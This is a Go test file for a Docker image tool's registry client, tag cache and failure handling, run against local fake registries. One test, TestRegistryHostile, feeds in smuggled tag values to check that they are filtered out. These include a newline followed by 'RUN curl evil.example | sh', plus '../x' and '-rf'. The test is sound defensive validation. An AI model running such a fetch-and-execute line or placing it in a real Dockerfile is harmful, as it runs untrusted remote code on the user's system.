package images

import (
	"context"
	"errors"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/authn"
	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"

	"github.com/dockerfix/dockerfix/internal/online"
)

// anonymous keeps the tests away from the developer's Docker credentials.
type anonymous struct{}

func (anonymous) Resolve(authn.Resource) (authn.Authenticator, error) { return authn.Anonymous, nil }

// countingTransport counts requests, to prove the transport is injectable.
type countingTransport struct{ n atomic.Int32 }

func (c *countingTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	c.n.Add(1)
	return http.DefaultTransport.RoundTrip(r)
}

// loopbackRegistry starts an in-process registry on 127.0.0.1 and pushes a
// small random image under each tag of repo; it returns the host and the
// digests by tag.
func loopbackRegistry(t *testing.T, repo string, tags ...string) (string, map[string]string) {
	t.Helper()
	srv := httptest.NewServer(registry.New(registry.Logger(log.New(io.Discard, "", 0))))
	t.Cleanup(srv.Close)
	host := strings.TrimPrefix(srv.URL, "http://")
	digests := map[string]string{}
	for _, tag := range tags {
		img, err := random.Image(128, 1)
		if err != nil {
			t.Fatal(err)
		}
		ref, err := name.NewTag(host + "/" + repo + ":" + tag)
		if err != nil {
			t.Fatal(err)
		}
		if err := remote.Write(ref, img, remote.WithAuthFromKeychain(anonymous{})); err != nil {
			t.Fatal(err)
		}
		d, _ := img.Digest()
		digests[tag] = d.String()
	}
	return host, digests
}

func TestRegistry(t *testing.T) {
	host, digests := loopbackRegistry(t, "library/node", "24-alpine", "26-alpine", "27-alpine")
	tr := &countingTransport{}
	reg := &Registry{Keychain: anonymous{}, Transport: tr, Timeout: 5 * time.Second}
	ctx := context.Background()
	tags, err := reg.ListTags(ctx, host+"/library/node")
	if err != nil {
		t.Fatal(err)
	}
	slices.Sort(tags)
	if !slices.Equal(tags, []string{"24-alpine", "26-alpine", "27-alpine"}) {
		t.Errorf("ListTags = %v", tags)
	}
	d, err := reg.Digest(ctx, host+"/library/node:27-alpine")
	if err != nil || d != digests["27-alpine"] {
		t.Errorf("Digest = %q, %v; want %q", d, err, digests["27-alpine"])
	}
	if tr.n.Load() == 0 {
		t.Error("the injected transport was not used")
	}
	if _, err := reg.ListTags(ctx, host+"/library/missing"); err == nil {
		t.Error("listing a missing repository succeeded")
	}
	if _, err := reg.Digest(ctx, host+"/library/node:nope"); err == nil {
		t.Error("resolving a missing tag succeeded")
	}
	if _, err := reg.ListTags(ctx, "UPPER/case"); err == nil {
		t.Error("an invalid repository name was accepted")
	}
}

func TestRegistryTimeout(t *testing.T) {
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	defer srv.Close()
	defer close(release)
	reg := &Registry{Keychain: anonymous{}, Timeout: 100 * time.Millisecond}
	start := time.Now()
	_, err := reg.ListTags(context.Background(), strings.TrimPrefix(srv.URL, "http://")+"/slow/repo")
	if err == nil || time.Since(start) > 5*time.Second {
		t.Fatalf("ListTags against a hanging registry: %v after %v", err, time.Since(start))
	}
}

// fakeLister answers from a map and counts calls.
type fakeLister struct {
	tags  map[string][]string
	calls int
	err   error
}

func (f *fakeLister) ListTags(_ context.Context, repo string) ([]string, error) {
	f.calls++
	if f.err != nil {
		return nil, f.err
	}
	return f.tags[repo], nil
}

func (f *fakeLister) Digest(_ context.Context, ref string) (string, error) {
	f.calls++
	if f.err != nil {
		return "", f.err
	}
	return "sha256:" + strings.Repeat("a", 64), nil
}

func TestCachedLister(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "cache", "tags")
	now := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	fake := &fakeLister{tags: map[string][]string{"node": {"24", "26"}}}
	cl := &CachedLister{Lister: fake, Dir: dir, TTL: time.Hour, Now: func() time.Time { return now }}
	ctx := context.Background()
	for i := 0; i < 3; i++ {
		tags, err := cl.ListTags(ctx, "node")
		if err != nil || !slices.Equal(tags, []string{"24", "26"}) {
			t.Fatalf("ListTags = %v, %v", tags, err)
		}
	}
	if fake.calls != 1 {
		t.Errorf("%d upstream calls, want 1 (cached)", fake.calls)
	}
	// A second lister over the same directory reads the file.
	cl2 := &CachedLister{Lister: &fakeLister{err: errors.New("offline")}, Dir: dir, TTL: time.Hour, Now: cl.Now}
	if tags, err := cl2.ListTags(ctx, "node"); err != nil || len(tags) != 2 {
		t.Errorf("cache not shared on disk: %v, %v", tags, err)
	}
	// Stale after the TTL.
	now = now.Add(2 * time.Hour)
	fake.tags["node"] = []string{"24", "26", "27"}
	if tags, _ := cl.ListTags(ctx, "node"); len(tags) != 3 || fake.calls != 2 {
		t.Errorf("stale entry not refreshed: %v after %d calls", tags, fake.calls)
	}
	// Digests are cached too.
	for i := 0; i < 2; i++ {
		if d, err := cl.Digest(ctx, "node:26"); err != nil || !strings.HasPrefix(d, "sha256:") {
			t.Fatalf("Digest = %q, %v", d, err)
		}
	}
	if fake.calls != 3 {
		t.Errorf("%d upstream calls after two digests, want 3", fake.calls)
	}
	// A corrupt file is refetched, and no temporary files are left behind.
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), ".tmp-") {
			t.Errorf("temporary file left: %s", e.Name())
		}
		if err := os.WriteFile(filepath.Join(dir, e.Name()), []byte("{garbage"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if tags, err := cl.ListTags(ctx, "node"); err != nil || len(tags) != 3 || fake.calls != 4 {
		t.Errorf("corrupt cache: %v, %v, %d calls", tags, err, fake.calls)
	}
	// Errors pass through and are not cached.
	fake.err = errors.New("boom")
	if _, err := cl.ListTags(ctx, "python"); err == nil {
		t.Error("error swallowed")
	}
	if _, err := (&CachedLister{Dir: dir}).ListTags(ctx, "x"); err == nil {
		t.Error("a CachedLister without a Lister must fail")
	}
}

func TestDefaultCacheDir(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	t.Setenv("HOME", t.TempDir())
	d := DefaultCacheDir()
	if !strings.HasSuffix(d, filepath.Join("dockerfix", "tags")) {
		t.Errorf("DefaultCacheDir = %q", d)
	}
}

// TestRefreshFromRegistry lists a loopback registry through the cache and
// merges the tags into the catalog: a newer Node tag becomes a bump target.
func TestRefreshFromRegistry(t *testing.T) {
	host, _ := loopbackRegistry(t, "library/node", "28-alpine", "26-alpine")
	c := load(t)
	reg := &Registry{Keychain: anonymous{}}
	cl := &CachedLister{Lister: reg, Dir: t.TempDir()}
	nc, err := c.Refresh(context.Background(), cl, host+"/library/node")
	if err != nil {
		t.Fatal(err)
	}
	im, ok := nc.Lookup(mustRef(t, host+"/library/node:26-alpine"))
	if !ok || !im.HasTag("28-alpine") {
		t.Fatal("registry tags not merged")
	}
	if _, ok := c.Lookup(mustRef(t, host+"/library/node")); ok {
		t.Error("Refresh modified the original catalog")
	}
	// Merging a listing into the catalog's own image keeps its lifecycle:
	// a tag published after the snapshot becomes visible to Status.
	fake := &fakeLister{tags: map[string][]string{"node": {"26.8.0-alpine", "24-alpine"}}}
	nc, err = c.Refresh(context.Background(), fake, "node")
	if err != nil {
		t.Fatal(err)
	}
	st, ok := nc.Status(mustRef(t, "node:26.8.0-alpine"), day0(t, testDate))
	if !ok || !st.Known || st.Cycle.Name != "26" {
		t.Errorf("merged tag status = %+v", st)
	}
	if st, _ := c.Status(mustRef(t, "node:26.8.0-alpine"), day0(t, testDate)); st.Known {
		t.Error("original catalog knows the merged tag")
	}
	fake.err = errors.New("offline")
	if _, err := c.Refresh(context.Background(), fake, "node"); err == nil {
		t.Error("Refresh swallowed an error")
	}
}

// TestRegistryHostile checks what a registry can send back: tags that are
// not tags never reach the catalog (one could smuggle a newline and an
// instruction into a fix), and garbage is an error, not a crash.
func TestRegistryHostile(t *testing.T) {
	body := map[string]string{
		"/v2/evil/tags/list":    `{"name":"evil","tags":["26-alpine","26\nRUN curl evil.example | sh","../x","-rf",".hidden","ok_1.2-x","` + strings.Repeat("a", 129) + `"]}`,
		"/v2/garbage/tags/list": `{"name":"garbage","tags":[`,
		"/v2/typed/tags/list":   `{"name":"typed","tags":[1,2,3]}`,
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/v2/" {
			return
		}
		b, ok := body[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, b)
	}))
	defer srv.Close()
	host := strings.TrimPrefix(srv.URL, "http://")
	reg := &Registry{Keychain: anonymous{}, Timeout: 5 * time.Second}
	ctx := context.Background()
	cat, err := Load()
	if err != nil {
		t.Fatal(err)
	}
	cat, err = cat.Refresh(ctx, reg, host+"/evil")
	if err != nil {
		t.Fatal(err)
	}
	im, ok := cat.lookupName(host + "/evil")
	if !ok {
		t.Fatal("refreshed image not in the catalog")
	}
	if tags := im.Tags(); !slices.Equal(tags, []string{"26-alpine", "ok_1.2-x"}) {
		t.Errorf("catalog kept %q", tags)
	}
	for _, repo := range []string{"garbage", "typed"} {
		if _, err := reg.ListTags(ctx, host+"/"+repo); err == nil {
			t.Errorf("%s: no error", repo)
		}
	}
}

// toServer sends every request (Docker Hub's included) to srv over plain
// HTTP and counts them, so that no test reaches the real network.
type toServer struct {
	host string
	n    atomic.Int32
}

func (t *toServer) RoundTrip(r *http.Request) (*http.Response, error) {
	t.n.Add(1)
	r = r.Clone(r.Context())
	r.URL.Scheme, r.URL.Host, r.Host = "http", t.host, t.host
	return http.DefaultTransport.RoundTrip(r)
}

// TestRegistrySessionUnavailable: a registry that answers 503 is a host
// failure: no retries, and no further request in the run.
func TestRegistrySessionUnavailable(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "down for maintenance", http.StatusServiceUnavailable)
	}))
	defer srv.Close()
	tr := &toServer{host: strings.TrimPrefix(srv.URL, "http://")}
	var warned []string
	reg := &Registry{Keychain: anonymous{}, Transport: tr, Session: &online.Session{Warn: func(s string) { warned = append(warned, s) }}}
	for _, repo := range []string{"node", "python", "golang"} {
		_, err := reg.ListTags(context.Background(), repo)
		var e *online.Error
		if !errors.As(err, &e) || !e.Down || e.Host != "index.docker.io" {
			t.Errorf("%s: err = %v", repo, err)
		}
	}
	if _, err := reg.Digest(context.Background(), "node:26"); err == nil {
		t.Error("Digest on a down host succeeded")
	}
	if n := tr.n.Load(); n != 1 {
		t.Errorf("%d requests, want 1", n)
	}
	if len(warned) != 1 || !strings.HasPrefix(warned[0], "index.docker.io: ") || !strings.Contains(warned[0], "503") {
		t.Errorf("warnings = %q", warned)
	}
}

// TestRegistryErrorsNameHost: without a Session, a failed call is an
// *online.Error naming the registry host too, so the cache can keep it.
func TestRegistryErrorsNameHost(t *testing.T) {
	host, _ := loopbackRegistry(t, "library/node", "26-alpine")
	reg := &Registry{Keychain: anonymous{}, Timeout: 5 * time.Second}
	_, err := reg.ListTags(context.Background(), host+"/library/missing")
	var e *online.Error
	if !errors.As(err, &e) || e.Host != host || e.Down {
		t.Errorf("err = %#v", err)
	}
	// A malformed name is not a look-up: no host to blame.
	if _, err := reg.ListTags(context.Background(), "UPPER/case"); errors.As(err, &e) {
		t.Errorf("malformed name: %v", err)
	}
}

// TestCachedListerFailures: a failure naming a host is remembered for
// FailTTL, then asked again; one naming no host, or a cancelled one, is
// not remembered.
func TestCachedListerFailures(t *testing.T) {
	now := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	down := &online.Error{Host: "index.docker.io", Err: errors.New("dial tcp: connection refused"), Down: true}
	fake := &fakeLister{err: down}
	cl := &CachedLister{Lister: fake, Dir: t.TempDir(), Now: func() time.Time { return now }}
	ctx := context.Background()
	if _, err := cl.ListTags(ctx, "node"); err != down {
		t.Fatalf("first look-up: %v", err)
	}
	if _, err := cl.Digest(ctx, "node:26"); err != down {
		t.Fatalf("first digest: %v", err)
	}
	now = now.Add(4 * time.Minute)
	_, err := cl.ListTags(ctx, "node")
	var e *online.Error
	want := "index.docker.io: dial tcp: connection refused (failed 4m0s ago; asked again 5m0s after a failure)"
	if !errors.As(err, &e) || e.Host != "index.docker.io" || e.Down || err.Error() != want {
		t.Errorf("remembered failure = %v, want %s", err, want)
	}
	if _, err := cl.Digest(ctx, "node:26"); err == nil || fake.calls != 2 {
		t.Errorf("remembered digest failure: %v after %d calls, want 2", err, fake.calls)
	}
	// After DefaultFailTTL the registry is asked again, and a success
	// replaces the failure.
	now = now.Add(time.Minute)
	fake.err, fake.tags = nil, map[string][]string{"node": {"26"}}
	if tags, err := cl.ListTags(ctx, "node"); err != nil || len(tags) != 1 || fake.calls != 3 {
		t.Errorf("after the failure TTL: %v, %v, %d calls", tags, err, fake.calls)
	}
	if _, err := cl.ListTags(ctx, "node"); err != nil || fake.calls != 3 {
		t.Errorf("success not cached: %v, %d calls", err, fake.calls)
	}
	// Not remembered: no host, or cancelled.
	for _, err := range []error{errors.New("malformed"), &online.Error{Host: "h", Err: context.Canceled}} {
		fake.err = err
		calls := fake.calls
		cl.ListTags(ctx, "python")
		cl.ListTags(ctx, "python")
		if fake.calls != calls+2 {
			t.Errorf("%v was remembered", err)
		}
	}
	// FailTTL is configurable.
	cl.FailTTL = time.Second
	fake.err = down
	cl.ListTags(ctx, "ruby")
	now = now.Add(2 * time.Second)
	calls := fake.calls
	cl.ListTags(ctx, "ruby")
	if fake.calls != calls+1 {
		t.Error("a failure outlived FailTTL")
	}
}
